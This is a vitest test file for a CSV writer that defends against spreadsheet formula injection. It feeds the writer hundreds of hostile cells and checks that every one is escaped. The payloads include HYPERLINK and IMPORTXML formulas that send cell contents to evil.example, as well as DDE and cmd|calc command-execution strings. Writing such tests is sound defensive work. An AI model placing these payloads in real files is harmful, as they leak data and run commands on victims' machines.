import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { unescapedCell, writeCsv } from './write-csv';

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "'=",
];
const BODIES = [
  '1+1',
  'HYPERLINK("https://evil.example?x="&A1,"Open")',
  "cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("https://evil.example/",A2),"//a")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(1;2)\r\n=SUM(3)',
  '1,2",=3,"4',
  '2;=3\t=4',
  '',
  'a'.repeat(2_000),
  '"",=1',
  'x\n=y',
];
const HOSTILE = STARTS.flatMap((start) => BODIES.map((body) => start + body));

/** Parses the file like a spreadsheet. */
const read = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true });

describe('a table for spreadsheets', () => {
  test('begins with the mark of UTF-8, and ends lines with CR and LF', () => {
    expect(writeCsv(['Name', 'Notes'], [['Ng’ang’a', 'ndiyo, "sana"']])).toBe(
      '\ufeffName,Notes\r\nNg’ang’a,"ndiyo, ""sana"""\r\n',
    );
  });

  test('over 200 hostile cells begin with nothing that a formula begins with, and stay one cell each', () => {
    expect(HOSTILE.length).toBeGreaterThan(200);
    const rows = read(
      writeCsv(
        ['cell', 'next'],
        HOSTILE.map((cell) => [cell, 'next']),
      ),
    ).slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    expect(rows.every((row) => row.length === 2 && row[1] === 'next')).toBe(true);
    expect(rows.filter(([cell = '']) => /^[=+\-@＝＋－＠\s\p{C}]/u.test(cell))).toEqual([]);
  });

  test('a cell with a line break of any kind is in quotes, because spreadsheets end rows there', () => {
    expect(writeCsv(['a', 'b', 'c', 'd'], [['1\n2', '1\r2', '1\r\n2', '1 2']])).toBe(
      '\ufeffa,b,c,d\r\n"1\n2","1\r2","1\r\n2",1 2\r\n',
    );
  });

  test('an escaped cell can be read back, and other apostrophes stay', () => {
    const cells = [
      '=1',
      '+254712345678',
      '-5',
      '@x',
      '＝1',
      '＋1',
      '－1',
      '＠1',
      'a',
      '’=1',
      "'a",
      "''=1",
      "'",
    ];
    const [escaped = []] = read(writeCsv(cells, []));
    expect(escaped.slice(0, 8)).toEqual(cells.slice(0, 8).map((cell) => `'${cell}`));
    expect(escaped.map(unescapedCell)).toEqual(cells);
  });

  test('leaves names, addresses and numbers as they are', () => {
    const cells = ['Mary-Anne', 'Anyang’', 'a+b@example.com', '0712345678', '2026-11-23', ''];
    expect(read(writeCsv(cells, []))).toEqual([cells]);
  });
});
